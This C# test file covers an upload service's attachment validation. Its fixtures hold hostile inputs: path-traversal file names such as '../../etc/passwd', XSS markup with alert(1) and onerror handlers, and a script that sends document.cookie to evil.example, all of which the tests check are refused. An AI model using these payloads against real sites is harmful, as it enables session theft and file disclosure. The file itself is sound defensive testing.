using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using Assist.Domain.Common;
using Assist.Domain.Tickets;
using Assist.Storage.Attachments;
using Assist.Storage.Tests.Workflow;
using Assist.Tests;

namespace Assist.Storage.Tests.Attachments;

[Collection(UsesAzurite.Name)]
public sealed class AttachmentStoreTests(AzuriteFixture fixture)
{
    private static readonly byte[] Pdf = Encoding.ASCII.GetBytes("%PDF-1.7\n% test document\n1 0 obj << >> endobj\n%%EOF\n");

    // A PNG signature and IHDR chunk (1×1, 8-bit RGB); a JPEG SOI and JFIF APP0 segment.
    private static readonly byte[] PngBytes =
    [
        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
        0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x90, 0x77, 0x53, 0xDE,
    ];

    private static readonly byte[] JpegBytes = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 0x4A, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9];

    public static TheoryData<string, byte[], string?> Hostile => new()
    {
        { "empty", [], "report.pdf" },
        { "too-large", [.. Pdf, .. new byte[70 * 1024]], "big.pdf" },
        { "type-not-allowed", [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00], "invoice.pdf" },
        { "type-not-allowed", [.. Encoding.UTF8.GetBytes("plain text "), 0x00, 0x01], "notes.txt" },
        { "type-not-allowed", [.. Encoding.UTF8.GetBytes(new string('a', 100)), 0xC3, 0x28, 0x41], "notes.txt" },
        { "type-not-allowed", [0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00], "archive.docx" },
        { "name-invalid", Pdf, "../../etc/passwd" },
        { "name-invalid", Pdf, "..\\windows\\system.ini" },
        { "name-invalid", Pdf, "" },
        { "name-invalid", Pdf, "a\u0000b.pdf" },
        { "type-not-allowed", Pdf, "setup.exe" },
        { "type-not-allowed", Encoding.UTF8.GetBytes("plain notes"), "README" },
    };

    private static readonly byte[] Html = Encoding.UTF8.GetBytes("<!doctype html><html><body><script>alert(1)</script></body></html>");
    private static readonly byte[] Svg = Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    private static readonly byte[] Script = Encoding.UTF8.GetBytes("<script>document.location='https://evil.example/?c='+document.cookie</script>");

    /// <summary>Content that is not the type its name claims: markup dressed as documents or images, and real files misnamed.</summary>
    public static TheoryData<string, byte[], string> Disguised => new()
    {
        { "html", Html, "report.pdf" },
        { "svg", Svg, "photo.png" },
        { "script", Script, "scan.jpg" },
        { "html", Html, "合同.docx" },
        { "svg after a BOM and blank lines", [0xEF, 0xBB, 0xBF, .. "\r\n\n  "u8, .. Svg], "报表.xlsx" },
        { "xml-declared svg", Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><svg/>"), "logo.png" },
        { "html", Html, "notes.txt" },
        { "svg", Svg, "notes.txt" },
        { "html comment", Encoding.UTF8.GetBytes("<!-- hi --><img src=x onerror=alert(1)>"), "说明.txt" },
        { "pdf", Pdf, "名单.txt" },
        { "png", PngBytes, "photo.jpg" },
        { "jpeg", JpegBytes, "scan.pdf" },
        { "office zip", OfficeZip(), "营业执照.pdf" },
    };

    [Theory]
    [MemberData(nameof(Disguised))]
    public async Task UploadAsync_ContentNotTheTypeItsNameClaims_RefusedNamingAcceptedTypesWithNothingStored(string content, byte[] bytes, string fileName)
    {
        using var harness = await WorkflowHarness.StartAsync(fixture);

        var result = await harness.Attachments.UploadAsync(new MemoryStream(bytes), fileName);

        var refused = Assert.IsType<AttachmentUploadResult.Refused>(result);
        Assert.True(refused.Code == "type-mismatch", $"{content} as {fileName}: {refused.Code}");
        foreach (var extension in new[] { ".pdf", ".png", ".jpg", ".jpeg", ".docx", ".xlsx", ".txt" })
        {
            Assert.Contains(extension, refused.Reason, StringComparison.Ordinal);
            Assert.Contains(extension, refused.ReasonZh, StringComparison.Ordinal);
        }

        Assert.Empty(await BlobsAsync(harness, "uploads-pending"));
        Assert.Empty(await BlobsAsync(harness, "attachments"));
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task UploadAsync_HostileUpload_RefusedWithNothingLeftInStorage(string code, byte[] content, string? fileName)
    {
        using var harness = await WorkflowHarness.StartAsync(fixture);

        var result = await harness.Attachments.UploadAsync(new MemoryStream(content), fileName);

        Assert.Equal(code, Assert.IsType<AttachmentUploadResult.Refused>(result).Code);
        Assert.Empty(await BlobsAsync(harness, "uploads-pending"));
        Assert.Empty(await BlobsAsync(harness, "attachments"));
    }

    /// <summary>Each accepted type, with its real first bytes and an extension that claims it, stored as that type.</summary>
    public static TheoryData<byte[], string, string> Accepted => new()
    {
        { Pdf, "营业执照.pdf", "application/pdf" },
        { PngBytes, "现场照片.png", "image/png" },
        { JpegBytes, "scan.jpg", "image/jpeg" },
        { JpegBytes, "SCAN.JPEG", "image/jpeg" },
        { OfficeZip(), "情况说明.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
        { OfficeZip(), "报表.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { Encoding.UTF8.GetBytes("企业情况说明：贷款尚未发放。"), "说明.txt", "text/plain; charset=utf-8" },
        { Encoding.UTF8.GetBytes("<备注> 金额 < 500 万元，详见附件"), "备注.txt", "text/plain; charset=utf-8" },
    };

    // Replaces UploadAsync_TypesByMagicBytes_NotByNameOrClaim, which stored a PDF named 名单.txt and a PNG named
    // photo.jpg under their sniffed types: a file must now also be what its name claims (issue 16), see Disguised.
    [Theory]
    [MemberData(nameof(Accepted))]
    public async Task UploadAsync_AcceptedTypeWithRealMagicBytes_StoredAsThatType(byte[] content, string fileName, string contentType)
    {
        using var harness = await WorkflowHarness.StartAsync(fixture);

        var stored = await StoreAsync(harness, content, fileName);

        Assert.Equal(contentType, stored.ContentType);
        Assert.Equal(fileName, stored.FileName);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(content)), stored.Sha256);
        Assert.Equal(content.Length, stored.Size);
        Assert.DoesNotContain(Path.GetFileNameWithoutExtension(fileName), stored.Id, StringComparison.Ordinal);
        Assert.Single(await BlobsAsync(harness, "uploads-pending"));
    }

    [Fact]
    public async Task SubmitAsync_WithAttachment_CommitsItForDownloadAndSweepsAbandonedUploads()
    {
        using var harness = await WorkflowHarness.StartAsync(fixture);
        var kept = await StoreAsync(harness, Pdf, "营业执照.pdf");
        var abandoned = await StoreAsync(harness, Pdf, "draft.pdf");

        await harness.SubmitAsync(WorkflowHarness.Form(attachments: ValueList.Of(kept)));

        var download = await harness.Attachments.OpenReadAsync(kept.Id);
        Assert.NotNull(download);
        await using (download.Content)
        {
            using var copy = new MemoryStream();
            await download.Content.CopyToAsync(copy);
            Assert.Equal(Pdf, copy.ToArray());
        }

        Assert.Equal("营业执照.pdf", download.FileName);
        Assert.Equal("application/pdf", download.ContentType);
        Assert.Equal(kept.Sha256, download.Sha256);
        Assert.Equal([abandoned.Id], await BlobsAsync(harness, "uploads-pending"));
        Assert.Null(await harness.Attachments.OpenReadAsync(abandoned.Id));
        Assert.Null(await harness.Attachments.OpenReadAsync("../" + kept.Id));

        var sweep = await harness.AdvanceAsync(TimeSpan.FromHours(2));

        Assert.Equal(1, sweep.UploadsRemoved);
        Assert.Empty(await BlobsAsync(harness, "uploads-pending"));
        Assert.NotNull(await harness.Attachments.OpenReadAsync(kept.Id));
    }

    [Fact]
    public async Task DiscardAsync_PendingUpload_Removed()
    {
        using var harness = await WorkflowHarness.StartAsync(fixture);
        var upload = await StoreAsync(harness, Pdf, "a.pdf");

        await harness.Attachments.DiscardAsync([upload]);

        Assert.Empty(await BlobsAsync(harness, "uploads-pending"));
    }

    private static async Task<AttachmentRef> StoreAsync(WorkflowHarness harness, byte[] content, string name) =>
        Assert.IsType<AttachmentUploadResult.Stored>(await harness.Attachments.UploadAsync(new MemoryStream(content), name)).Attachment;

    private static async Task<List<string>> BlobsAsync(WorkflowHarness harness, string container)
    {
        var names = new List<string>();
        var client = harness.Clients.Blobs.GetBlobContainerClient(harness.Storage.Options.StorageNamePrefix + container);
        await foreach (var item in client.GetBlobsAsync())
        {
            names.Add(item.Name);
        }

        return names;
    }

    private static byte[] OfficeZip()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml", CompressionLevel.NoCompression).Open()))
            {
                writer.Write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            }

            using (var writer = new StreamWriter(zip.CreateEntry("xl/workbook.xml").Open()))
            {
                writer.Write("<workbook/>");
            }
        }

        return buffer.ToArray();
    }
}
